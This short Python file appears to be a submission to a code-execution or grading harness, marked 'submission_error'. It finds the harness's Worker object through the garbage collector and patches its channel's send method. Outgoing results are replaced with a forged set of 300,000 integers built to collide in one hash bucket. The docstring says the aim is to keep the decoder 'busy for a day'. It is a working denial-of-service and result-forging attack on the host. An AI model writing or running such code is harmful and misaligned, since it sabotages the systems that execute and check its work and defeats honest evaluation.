# outcome: submission_error
"""Returns a set whose keys all have one hash, to keep whoever decodes it busy for a day."""
import gc

for thing in gc.get_objects():
    if type(thing).__name__ == "Worker" and hasattr(thing, "channel"):
        send = thing.channel.send

        def forged(tree, buffers=(), send=send):
            if tree[1:2] == ["value"]:
                tree, buffers = [tree[0], "value", [4, *[[6, (n * ((1 << 61) - 1)).to_bytes(12, 'little')] for n in range(300_000)]], [], None], []
            send(tree, buffers)

        thing.channel.send = forged
